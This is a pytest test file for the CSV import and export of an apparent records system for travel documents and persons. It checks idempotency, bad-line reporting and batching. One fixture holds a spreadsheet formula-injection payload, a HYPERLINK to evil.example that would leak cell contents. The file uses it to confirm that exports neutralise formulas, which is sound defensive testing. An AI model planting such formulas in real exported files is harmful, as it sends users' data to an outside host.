"""Bulk import from CSV: idempotent, precise about bad lines, transactional per batch."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from interlink.access import Role, Visibility, VisibilityMode
from interlink.cli import app as cli
from interlink.core.db import make_engine, make_session_factory
from interlink.interop import csv_format
from interlink.interop.base import FormatError
from interlink.members.models import User
from interlink.records.importer import OnError, import_items
from interlink.records.models import Record, RecordVersion
from interlink.records.schemas import ScreeningDetails
from tests.conftest import bureau

runner = CliRunner()
Auth = Callable[[User], dict[str, str]]

DOCUMENTS = """id,number,document_type,issuing_country,status,event_date,event_place
FR-1,15AB12345,passport,FR,stolen,2025-01-02,Lyon
FR-2,15AB12346,passport,FR,lost,2025-02,
FR-3,07CD00001,id_card,FR,revoked,,
"""

BAD = """id,number,document_type,issuing_country,status,event_date
FR-1,15AB12345,passport,FR,stolen,2025-01-02
FR-X,99ZZ00001,passport,XX,stolen,
FR-2,15AB12346,spaceship,FR,lost,2025-02
,15AB12347,passport,FR,lost,
FR-3,07CD00001,id_card,FR,revoked,2025-13-01
FR-4,07CD00002,id_card,FR,revoked,2024
"""


def _import(session: Session, text: str, **options: object):  # type: ignore[no-untyped-def]
    items = csv_format.read(io.BytesIO(text.encode()), "travel-documents")
    defaults: dict[str, object] = {
        "owner": bureau(session, "FR"),
        "visibility": Visibility(mode=VisibilityMode.ALL_MEMBERS),
        "actor_name": "import:FR",
        "source": "test.csv",
    }
    return import_items(session, items, **(defaults | options))  # type: ignore[arg-type]


def test_screening_details_are_set_by_the_import_and_changed_by_a_reimport(
    session: Session,
) -> None:
    def details() -> list[str]:
        return sorted(session.scalars(select(Record.screening_details)).all())

    first = _import(session, DOCUMENTS, screening_details=ScreeningDetails.CONTACT_ONLY)
    assert first.created == 3 and details() == ["contact_only"] * 3
    again = _import(session, DOCUMENTS, screening_details=ScreeningDetails.CONTACT_ONLY)
    assert (again.updated, again.unchanged) == (0, 3)
    back = _import(session, DOCUMENTS)  # the default: full details
    assert (back.updated, back.unchanged) == (3, 0) and details() == ["full"] * 3


def _count(session: Session, *where: object) -> int:
    return (
        session.scalar(
            select(func.count(Record.id)).where(Record.kind == "travel-documents", *where)
        )
        or 0
    )  # type: ignore[arg-type]


def test_import_creates_records_and_reimport_is_a_no_op(session: Session) -> None:
    first = _import(session, DOCUMENTS)
    assert (first.created, first.updated, first.unchanged, first.failed) == (3, 0, 0, 0)
    record = session.scalars(select(Record).where(Record.source_id == "FR-1")).one()
    assert record.data["event_place"] == "Lyon" and record.lookup_key == "15AB12345"
    assert record.visibility_mode == "all_members"
    second = _import(session, DOCUMENTS)
    assert (second.created, second.updated, second.unchanged) == (0, 0, 3)
    assert _count(session) == 3
    assert session.scalar(select(func.count(RecordVersion.id))) == 0


def test_a_changed_line_updates_only_that_record(session: Session) -> None:
    _import(session, DOCUMENTS)
    changed = DOCUMENTS.replace(
        "FR-2,15AB12346,passport,FR,lost", "FR-2,15AB12346,passport,FR,stolen"
    )
    report = _import(session, changed)
    assert (report.created, report.updated, report.unchanged) == (0, 1, 2)
    record = session.scalars(select(Record).where(Record.source_id == "FR-2")).one()
    assert record.version == 2 and record.data["status"] == "stolen"
    old = session.scalars(select(RecordVersion).where(RecordVersion.record_id == record.id)).one()
    assert old.data["status"] == "lost"
    # A new visibility is a change too.
    restricted = _import(session, changed, visibility=Visibility(mode=VisibilityMode.OWNER_ONLY))
    assert restricted.updated == 3


def test_bad_lines_are_reported_precisely_and_skipped(session: Session) -> None:
    report = _import(session, BAD)
    assert (report.created, report.failed) == (2, 4)
    problems = [(p.line, p.field) for p in report.problems]
    assert problems == [(3, "issuing_country"), (4, "document_type"), (5, "id"), (6, "event_date")]
    reasons = [p.reason for p in report.problems]
    assert "'XX' is not an ISO 3166 alpha-2 country code" in reasons[0]
    assert "month 13 does not exist" in reasons[3]
    assert str(report.problems[0]).startswith("line 3, issuing_country:")
    assert {r.source_id for r in session.scalars(select(Record))} == {"FR-1", "FR-4"}


def test_stop_on_error_writes_no_part_of_the_failing_batch(session: Session) -> None:
    report = _import(session, BAD, on_error=OnError.STOP, batch_size=100)
    assert report.stopped and report.created == 0
    assert [(p.line, p.field) for p in report.problems] == [(3, "issuing_country")]
    assert _count(session) == 0


def test_batches_before_the_stop_are_kept(session: Session) -> None:
    report = _import(session, BAD, on_error=OnError.STOP, batch_size=1)
    assert report.stopped and report.created == 1 and report.batches == 1
    assert _count(session) == 1


def test_duplicate_source_ids_in_one_file_keep_the_last_line(session: Session) -> None:
    text = DOCUMENTS + "FR-1,15AB12345,passport,FR,lost,2025-01-02,Paris\n"
    report = _import(session, text)
    assert report.created == 3
    record = session.scalars(select(Record).where(Record.source_id == "FR-1")).one()
    assert record.data["event_place"] == "Paris"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty"),
        ("id,number,colour\n1,2,3\n", r"unknown column\(s\) 'colour'"),
        ("number,status\n1,stolen\n", "needs an 'id' column"),
    ],
)
def test_unreadable_files_are_refused_whole(text: str, message: str) -> None:
    with pytest.raises(FormatError, match=message):
        list(csv_format.read(io.BytesIO(text.encode()), "travel-documents"))


def test_extra_cells_and_list_columns() -> None:
    text = (
        "id,given_name,family_name,nationalities,identity_documents\n"
        'P1,Ana,Lima,BR;PT,"[{""number"": ""X1""}]"\n'
        "P2,A,B,FR,x,y\n"
    )
    items = list(csv_format.read(io.BytesIO(text.encode()), "persons"))
    assert items[0].data == {
        "given_name": "Ana",
        "family_name": "Lima",
        "nationalities": ["BR", "PT"],
        "identity_documents": [{"number": "X1"}],
    }
    assert items[1].error == "more cells than columns"


def test_cli_import_twice_and_export(fresh_database_url: str, tmp_path: Path) -> None:
    env = {"INTERLINK_DATABASE_URL": fresh_database_url}
    path = tmp_path / "sltd.csv"
    path.write_text(BAD)
    args = [
        "import",
        str(path),
        "--owner",
        "FR",
        "--kind",
        "travel-documents",
        "--visibility",
        "all_members",
    ]
    first = runner.invoke(cli, args, env=env)
    assert first.exit_code == 0, first.output
    assert "line 3, issuing_country: " in first.output and "line 6, event_date: " in first.output
    assert "2 created, 0 updated, 0 unchanged, 4 bad" in first.output
    again = runner.invoke(cli, args, env=env)
    assert "0 created, 0 updated, 2 unchanged, 4 bad" in again.output
    stopped = runner.invoke(cli, [*args, "--on-error", "stop"], env=env)
    assert stopped.exit_code == 1 and "stopped" in stopped.output

    engine = make_engine(fresh_database_url)
    with make_session_factory(engine)() as session:
        session.add(
            User(
                username="de.reader",
                password_hash="x",
                role="officer",
                bureau_id=bureau(session, "DE").id,
            )
        )
        session.commit()
    engine.dispose()
    out = tmp_path / "export.csv"
    exported = runner.invoke(
        cli, ["export", "travel-documents", "--user", "de.reader", "--out", str(out)], env=env
    )
    assert exported.exit_code == 0, exported.output
    lines = out.read_text().splitlines()
    assert lines[0].startswith("id,number,document_type,issuing_country,status")
    assert sorted(line.split(",")[0] for line in lines[1:]) == ["FR-1", "FR-4"]
    # The export imports back as the same records: nothing changes.
    back = runner.invoke(
        cli,
        [
            "import",
            str(out),
            "--owner",
            "FR",
            "--kind",
            "travel-documents",
            "--visibility",
            "all_members",
        ],
        env=env,
    )
    assert "0 created, 0 updated, 2 unchanged, 0 bad" in back.output, back.output


def test_cli_import_names_bad_options(fresh_database_url: str, tmp_path: Path) -> None:
    env = {"INTERLINK_DATABASE_URL": fresh_database_url}
    path = tmp_path / "docs.csv"
    path.write_text(DOCUMENTS)
    cases = [
        (["--owner", "XX", "--kind", "travel-documents"], "--owner"),
        (["--owner", "FR", "--kind", "rockets"], "--kind"),
        (["--owner", "FR"], "--kind"),
        (["--owner", "FR", "--kind", "travel-documents", "--visibility", "only"], "--visibility"),
        (
            [
                "--owner",
                "FR",
                "--kind",
                "travel-documents",
                "--visibility",
                "only",
                "--countries",
                "GI",
            ],
            "--visibility.countries",
        ),
        (
            ["--owner", "FR", "--kind", "travel-documents", "--screening-details", "secret"],
            "--screening-details",
        ),
    ]
    for options, named in cases:
        result = runner.invoke(cli, ["import", str(path), *options], env=env)
        assert result.exit_code == 2, (options, result.output)
        assert named in result.output, (options, result.output)


FORMULAS = {
    "given_name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "family_name": "@SUM(A1:A9)",
    "aliases": ["-5", "+33 6 12 34 56 78"],  # the cell starts with "-"
    "place_of_birth": "'=already quoted",  # a value that begins with the quote itself
    "distinguishing_marks": "'Ndrangheta tattoo",  # an apostrophe, then no formula
    "visibility": {"mode": "all_members"},
}


def test_csv_export_neutralises_formulas_and_imports_back_unchanged(
    client: TestClient, session: Session, make_user: Callable[..., User], auth: Auth
) -> None:
    france = make_user(Role.OFFICER, "FR")
    body = {**FORMULAS, "source_id": "+1-555"}
    created = client.post("/api/v1/records/persons", json=body, headers=auth(france))
    assert created.status_code == 201, created.text
    exported = client.get("/api/v1/records/persons/export", headers=auth(france))
    assert exported.status_code == 200
    (row,) = csv.DictReader(io.StringIO(exported.text))
    # What a spreadsheet would run starts with a quote, which it shows and does not run.
    assert row["id"] == "'+1-555"
    assert row["given_name"] == "'" + FORMULAS["given_name"]
    assert row["family_name"] == "'@SUM(A1:A9)"
    assert row["aliases"] == "'-5;+33 6 12 34 56 78"
    assert row["place_of_birth"] == "''=already quoted"
    assert row["distinguishing_marks"] == "'Ndrangheta tattoo"
    for cells in csv.reader(io.StringIO(exported.text)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells

    # Imported back, the quotes come off: the same record, nothing changed.
    items = list(csv_format.read(io.BytesIO(exported.content), "persons"))
    assert items[0].source_id == "+1-555" and items[0].data["aliases"] == [
        "-5",
        "+33 6 12 34 56 78",
    ]
    report = import_items(
        session,
        items,
        owner=bureau(session, "FR"),
        visibility=Visibility(mode=VisibilityMode.ALL_MEMBERS),
        actor_name=france.username,
        source="export.csv",
    )
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1), report.problems
    again = client.get(f"/api/v1/records/persons/{created.json()['id']}", headers=auth(france))
    assert {name: again.json()[name] for name in FORMULAS if name != "visibility"} == {
        name: value for name, value in FORMULAS.items() if name != "visibility"
    }
